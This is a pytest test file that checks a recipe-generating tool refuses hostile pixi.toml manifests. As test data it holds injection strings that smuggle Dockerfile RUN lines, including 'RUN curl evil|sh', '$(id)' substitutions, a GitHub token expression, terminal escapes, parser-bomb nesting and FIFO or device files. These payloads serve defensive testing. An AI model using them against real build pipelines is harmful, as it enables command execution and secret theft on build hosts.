"""Hostile manifests: values that must not reach a recipe, odd bytes, files that are not files."""

from __future__ import annotations

import os
from pathlib import Path

import pytest
from hostile_helpers import (
    GOOD,
    TASKS,
    changed,
    kit,
    kit_process,
    manifest,
    one_line,
    refused_everywhere,
    snapshot,
    toml_str,
    toml_str_list,
)

# == manifest =========================================================================================

INJECTED_NAME = 'x"\nRUN ["/bin/sh","-c","id > /pwned"]\nLABEL y="'
INJECTED_CUDA = '12"\nRUN curl evil|sh\n#'
MANIFEST_CASES: dict[str, tuple[str, list[str]]] = {
    # values that reach a Dockerfile, a def file, YAML or a shell
    "name-run-line-optimized": (manifest(name=toml_str(INJECTED_NAME)), ["--style", "optimized"]),
    "name-run-line-lesson": (manifest(name=toml_str(INJECTED_NAME)), []),
    "name-post-section": (manifest(name=toml_str("x\n%post\n    id > /pwned\n")), []),
    "name-command-substitution": (manifest(name=toml_str("$(id)")), []),
    "name-backticks": (manifest(name=toml_str("`id`")), []),
    "name-github-expression": (manifest(name=toml_str("${{ github.token }}")), []),
    "name-yaml-quote": (manifest(name=toml_str("a' : evil\nkey: 'x")), []),
    "name-terminal-escape": (manifest(name=toml_str("\u001b]0;owned\u0007\u001b[2Jx")), []),
    "name-carriage-return": (manifest(name=toml_str("ok\rRUN id")), []),
    "name-nul": (manifest(name=toml_str("a\u0000b")), []),
    "name-10k-chars": (manifest(name=toml_str("a" * 10_000)), []),
    "name-integer": (manifest(name="5"), []),
    "name-table": (manifest(name="{ a = 1 }"), []),
    "cuda-run-line": (manifest(cuda=toml_str(INJECTED_CUDA)), ["--env", "gpu"]),
    "cuda-run-line-optimized": (
        manifest(cuda=toml_str(INJECTED_CUDA)),
        ["--env", "gpu", "--style", "optimized"],
    ),
    "cuda-yaml-quote": (manifest(cuda=toml_str("12' , evil: 'x")), ["--env", "gpu"]),
    "cuda-abc": (manifest(cuda=toml_str("abc")), ["--env", "gpu"]),
    "cuda-empty": (manifest(cuda=toml_str("")), ["--env", "gpu"]),
    "cuda-space": (manifest(cuda=toml_str("12 .4")), ["--env", "gpu"]),
    "cuda-dollar": (manifest(cuda=toml_str("$(id)")), ["--env", "gpu"]),
    "cuda-huge-number": (manifest(cuda=toml_str("99999999999999999999")), ["--env", "gpu"]),
    "cuda-version-table-injection": (manifest(cuda='{ version = "12\\nRUN id" }'), ["--env", "gpu"]),
    "cuda-list": (manifest(cuda='["12"]'), ["--env", "gpu"]),
    "cuda-in-matrix-only": (manifest(cuda=toml_str("12'\nevil: 1")), ["--env", "cpu", "--matrix", "gpu"]),
    "channel-newline": (manifest(channels=toml_str_list("conda-forge\nRUN id")), []),
    "channel-quote": (manifest(channels=toml_str_list('conda"-forge')), []),
    "channel-table-integer": (manifest(channels="[{ channel = 5, priority = 1 }]"), []),
    "channels-string": (manifest(channels=toml_str("conda-forge")), []),
    "channels-table": (manifest(channels="{ a = 1 }"), []),
    "platforms-integers": (manifest(platforms="[1, 2]"), []),
    "platforms-injection": (manifest(platforms=toml_str_list("linux-64\nRUN id")), []),
    "platforms-string": (manifest(platforms=toml_str("linux-64")), []),
    "tasks-integer": ("tasks = 5\n" + GOOD.replace(TASKS, ""), []),
    "tasks-list": ('tasks = ["a"]\n' + GOOD.replace(TASKS, ""), []),
    "no-default-feature-string": (
        manifest(environments='cpu = ["cpu"]\ngpu = { features = ["gpu"], no-default-feature = "false" }\n'),
        [],
    ),
    "features-string": (manifest(environments='cpu = ["cpu"]\ngpu = { features = "gpu" }\n'), []),
    "feature-names-integers": (manifest(environments='cpu = ["cpu"]\ngpu = [1]\n'), []),
    "environments-integer": ("environments = 5\n" + GOOD[: GOOD.index("[environments]")], []),
    "environment-integer": (manifest(environments="cpu = 5\n"), []),
    "environment-name-uppercase": (manifest(environments='GPU = ["gpu"]\n'), []),
    "environment-name-injection": (manifest(environments='"gpu;id" = ["gpu"]\n'), []),
    "feature-integer": (manifest(extra="\n[feature]\nextra = 5\n"), []),
    "features-table-integer": ("feature = 5\n" + GOOD.split("[feature.cpu")[0], []),
    "system-requirements-string": (
        GOOD.replace("[feature.gpu]\n", '[feature.gpu]\nsystem-requirements = "cuda"\n'),
        ["--env", "gpu"],
    ),
    "workspace-integer": ("workspace = 5\n", []),
}


@pytest.mark.parametrize("case", sorted(MANIFEST_CASES))
def test_manifest_values_are_refused_where_they_enter(
    capsys: pytest.CaptureFixture[str], tree: Path, case: str
) -> None:
    """Nothing from a manifest reaches a recipe unchecked: exit 2, one line naming the manifest."""
    text, flags = MANIFEST_CASES[case]
    repo = tree / "repo"
    (repo / "pixi.toml").write_text(text)
    run = refused_everywhere(capsys, tree, "generate", repo, *flags, expect="pixi.toml")
    assert "fix:" in run.err
    assert "\x1b" not in run.err and "\r" not in run.err and "\x00" not in run.err


def deep(open_: str, close: str, depth: int, inner: str = "1") -> str:
    return open_ * depth + inner + close * depth


ODD_MANIFESTS: dict[str, bytes] = {
    "arrays-5000-deep": f'[workspace]\nname = "x"\nx = {deep("[", "]", 5000)}\n'.encode(),
    "inline-tables-3000-deep": f'[workspace]\nname = "x"\nx = {deep("{a=", "}", 3000)}\n'.encode(),
    "mixed-nesting-4000-deep": f"x = {deep('[{a=', '}]', 2000)}\n".encode(),
    "latin-1": GOOD.replace("The workspace", "Die Arbeitsfl\xe4che").encode("latin-1"),
    "utf-16": GOOD.encode("utf-16"),
    "byte-order-mark": b"\xef\xbb\xbf" + GOOD.encode(),
    "nul-byte": GOOD.encode().replace(b"# The", b"# \x00The"),
    "binary-garbage": bytes(range(256)) * 4,
    "unterminated-string": b'[workspace]\nname = "x\n',
    "duplicate-key": GOOD.encode() + b'\n[workspace]\nname = "y"\n',
    "empty": b"",
    "only-comments": b"# nothing here\n",
}


@pytest.mark.parametrize("case", sorted(ODD_MANIFESTS))
def test_odd_manifest_bytes(capsys: pytest.CaptureFixture[str], tree: Path, case: str) -> None:
    repo = tree / "repo"
    (repo / "pixi.toml").write_bytes(ODD_MANIFESTS[case])
    refused_everywhere(capsys, tree, "generate", repo, expect="pixi.toml")


def test_deep_table_headers_are_read_without_recursion(
    capsys: pytest.CaptureFixture[str], tree: Path
) -> None:
    """`[a.a.a...]` 3000 levels deep is flat for the parser: read, and unknown tables ignored."""
    repo = tree / "repo"
    (repo / "pixi.toml").write_text(GOOD + "\n[" + ".".join(["a"] * 3000) + "]\nb = 1\n")
    run = kit(capsys, "generate", repo, "--diff")
    assert run.code == 0 and "Traceback" not in run.err


def test_manifest_too_big(capsys: pytest.CaptureFixture[str], tree: Path) -> None:
    repo = tree / "repo"
    with (repo / "pixi.toml").open("a") as handle:
        handle.write("\n# " + "x" * (5 * 1024 * 1024) + "\n")
    refused_everywhere(capsys, tree, "generate", repo, expect="MiB")


@pytest.mark.parametrize("kind", ["folder", "dangling-link", "link-loop", "link-to-folder"])
def test_manifest_that_is_not_a_file(capsys: pytest.CaptureFixture[str], tree: Path, kind: str) -> None:
    repo = tree / "repo"
    manifest_path = repo / "pixi.toml"
    manifest_path.unlink()
    if kind == "folder":
        manifest_path.mkdir()
    elif kind == "dangling-link":
        manifest_path.symlink_to(tree / "nowhere.toml")
    elif kind == "link-loop":
        manifest_path.symlink_to("pixi.toml")
    else:
        manifest_path.symlink_to(tree / "outside")
    refused_everywhere(capsys, tree, "generate", repo, expect="pixi.toml")


@pytest.mark.parametrize("kind", ["fifo", "dev-zero", "dev-urandom"])
def test_manifest_fifo_or_device_does_not_hang(tree: Path, kind: str) -> None:
    repo = tree / "repo"
    (repo / "pixi.toml").unlink()
    if kind == "fifo":
        os.mkfifo(repo / "pixi.toml")
    else:
        (repo / "pixi.toml").symlink_to("/dev/" + kind.split("-")[1])
    before = snapshot(tree)
    run = kit_process("generate", repo, timeout=30)
    one_line(run, 2, "pixi.toml")
    assert changed(before, snapshot(tree)) == set()


@pytest.mark.parametrize("case", ["tool-integer", "tool-pixi-integer", "tool-pixi-missing"])
def test_pyproject_shapes(capsys: pytest.CaptureFixture[str], tree: Path, case: str) -> None:
    repo = tree / "repo"
    (repo / "pixi.toml").unlink()
    body = {
        "tool-integer": "tool = 5\n",
        "tool-pixi-integer": "[tool]\npixi = 5\n",
        "tool-pixi-missing": "[project]\nname = 'x'\n",
    }[case]
    (repo / "pyproject.toml").write_text(body)
    refused_everywhere(capsys, tree, "generate", repo, expect="pyproject.toml")
